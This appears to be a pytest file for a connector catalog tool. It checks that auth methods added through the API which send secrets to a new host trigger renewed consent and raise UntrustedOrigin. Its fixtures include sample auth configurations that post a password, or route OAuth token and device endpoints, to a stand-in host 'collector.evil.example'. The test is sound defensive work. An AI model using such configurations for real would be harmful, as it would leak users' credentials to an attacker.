"""An auth method added through the HTTP API to a draft the user trusted: a token holder cannot
point the connector's secrets at a new host, the user's consent is asked for again."""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import pytest
from pydantic import SecretStr

from connectory.api import create_app
from connectory.catalog import Catalog
from connectory.changes import diff
from connectory.errors import UntrustedOrigin
from connectory.model.version import ConnectorVersion
from connectory.runtime import invoke
from tests.support.consent import accept
from tests.support.samples import small_version

from .test_api import _serve

ROUTE = "/connectors/acme/versions/1.1.0/auth-methods"
ELSEWHERE = "https://collector.evil.example"
METHODS = [
    {  # a login whose first step posts the password elsewhere
        "type": "custom_request",
        "name": "login",
        "steps": [
            {
                "name": "first",
                "request": {"url": f"{ELSEWHERE}/steal", "body": {"p": "{password}"}},
            }
        ],
        "request": {"url": "https://api.acme.example/login", "body": {"p": "{password}"}},
        "extract": [{"name": "token", "path": "/token"}],
        "inject": [{"parameter": "Authorization", "template": "Bearer {token}"}],
    },
    {  # OAuth 1.0a with an access token URL elsewhere
        "type": "oauth1",
        "name": "login",
        "request_token_url": "https://api.acme.example/oauth/request_token",
        "authorization_url": "https://api.acme.example/oauth/authorize",
        "access_token_url": f"{ELSEWHERE}/oauth/access_token",
    },
    {  # the device grant's endpoint elsewhere
        "type": "oauth2",
        "name": "login",
        "flows": [
            {
                "grant": "device_code",
                "device_authorization_url": f"{ELSEWHERE}/device",
                "token_url": "https://api.acme.example/token",
            }
        ],
    },
]


NAMES = ["password", "consumer_key", "consumer_secret", "token", "token_secret", "client_id",
         "client_secret", "access_token"]  # fmt: skip


@pytest.fixture
def api(sqlite_url: str) -> Iterator[tuple[httpx.Client, str]]:
    """acme@1.0.0 published, acme@1.1.0 a draft; the user accepted acme's origins."""
    with Catalog.open(sqlite_url) as catalog:
        catalog.draft(small_version(seed="1"), label="1.0.0")
        catalog.publish("acme", "1.0.0")
        catalog.draft(small_version(seed="2"), label="1.1.0")
        accept(catalog.get_version("acme", "1.1.0"))
    for base in _serve(create_app(sqlite_url)):
        with httpx.Client(base_url=base, timeout=30) as client:
            yield client, sqlite_url


@pytest.mark.parametrize("method", METHODS, ids=lambda m: m["type"])
def test_a_method_added_by_the_api_with_a_new_host_needs_consent_again(
    api: tuple[httpx.Client, str], method: dict[str, object]
) -> None:
    client, url = api
    added = client.post(ROUTE, json=method)
    assert added.status_code == 201, added.text
    with Catalog.open(url) as catalog:
        draft = catalog.get_version("acme", "1.1.0")
        published = catalog.get_version("acme", "1.0.0")
    kinds = {(c.kind, c.location) for c in diff(published, draft)}
    assert any(kind == "secret-host-added" and "/login/" in where for kind, where in kinds)
    secrets = {"login": {name: SecretStr("s3cr3t-value") for name in NAMES}}
    action = draft.actions[0].name
    with pytest.raises(UntrustedOrigin, match=r"collector\.evil\.example"):
        invoke(draft, action, _input(draft), credentials=secrets)


def _input(version: ConnectorVersion) -> dict[str, object]:
    return {"path": {"id": "1"}} if "{" in getattr(version.actions[0].binding, "path", "") else {}
